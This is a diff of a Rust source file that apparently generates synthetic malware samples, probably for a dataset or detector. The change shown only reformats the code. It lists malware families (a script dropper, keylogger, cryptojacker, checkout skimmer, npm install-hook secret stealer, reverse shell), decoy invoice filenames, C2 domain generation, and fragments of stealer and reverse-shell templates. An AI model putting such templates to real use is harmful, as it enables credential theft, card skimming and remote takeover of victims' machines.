@@ -7,12 +7,36 @@ use super::names::{self, fill, pick, R};
 use super::{Draft, Family};
 
 pub(crate) const FAMILIES: &[Family] = &[
-    Family { name: "wsh-dropper", description: "A Windows Script Host dropper that downloads and runs an executable", gen: wsh_dropper },
-    Family { name: "browser-keylogger", description: "A browser keylogger that records keystrokes and beacons them out", gen: keylogger },
-    Family { name: "cryptojacker", description: "In-page cryptojacking code that mines with visitors' CPUs", gen: cryptojacker },
-    Family { name: "form-grabber", description: "A card and credential skimmer injected into checkout pages", gen: form_grabber },
-    Family { name: "npm-postinstall-stealer", description: "A package install hook that steals environment secrets and SSH keys", gen: npm_stealer },
-    Family { name: "reverse-shell", description: "A reverse shell that hands an interactive shell to a remote operator", gen: node_reverse_shell },
+    Family {
+        name: "wsh-dropper",
+        description: "A Windows Script Host dropper that downloads and runs an executable",
+        gen: wsh_dropper,
+    },
+    Family {
+        name: "browser-keylogger",
+        description: "A browser keylogger that records keystrokes and beacons them out",
+        gen: keylogger,
+    },
+    Family {
+        name: "cryptojacker",
+        description: "In-page cryptojacking code that mines with visitors' CPUs",
+        gen: cryptojacker,
+    },
+    Family {
+        name: "form-grabber",
+        description: "A card and credential skimmer injected into checkout pages",
+        gen: form_grabber,
+    },
+    Family {
+        name: "npm-postinstall-stealer",
+        description: "A package install hook that steals environment secrets and SSH keys",
+        gen: npm_stealer,
+    },
+    Family {
+        name: "reverse-shell",
+        description: "A reverse shell that hands an interactive shell to a remote operator",
+        gen: node_reverse_shell,
+    },
 ];
 
 fn wsh_dropper(r: &mut R) -> Draft {
@@ -20,7 +44,15 @@ fn wsh_dropper(r: &mut R) -> Draft {
     let path = names::url_path(r);
     let name = names::stealth_name(r);
     let url = format!("http://{host}{path}");
-    let decoy = pick(r, &["Invoice_8841.pdf", "Scan_0032.pdf", "Order_Confirmation.docx", "Payment_Receipt.pdf"]);
+    let decoy = pick(
+        r,
+        &[
+            "Invoice_8841.pdf",
+            "Scan_0032.pdf",
+            "Order_Confirmation.docx",
+            "Payment_Receipt.pdf",
+        ],
+    );
     let mut c = String::new();
     if r.random_bool(0.5) {
         c.push_str(&format!("// {decoy}\n"));
@@ -232,7 +264,11 @@ if (/checkout|payment|onepage|login/.test(location.pathname)) {
 
 fn npm_stealer(r: &mut R) -> Draft {
     let host = names::c2_domain(r);
-    let pkg = format!("{}-{}", names::word(r), pick(r, &["utils", "helper", "core", "config"]));
+    let pkg = format!(
+        "{}-{}",
+        names::word(r),
+        pick(r, &["utils", "helper", "core", "config"])
+    );
     let mut c = fill(
         r#"// postinstall hook for @PKG@
 const os = require('os');
@@ -313,7 +349,11 @@ function connect() {
 
 connect();
 "#,
-        &[("HOST", &host), ("PORT", &port.to_string()), ("DELAY", &delay.to_string())],
+        &[
+            ("HOST", &host),
+            ("PORT", &port.to_string()),
+            ("DELAY", &delay.to_string()),
+        ],
     );
     Draft {
         content: c,
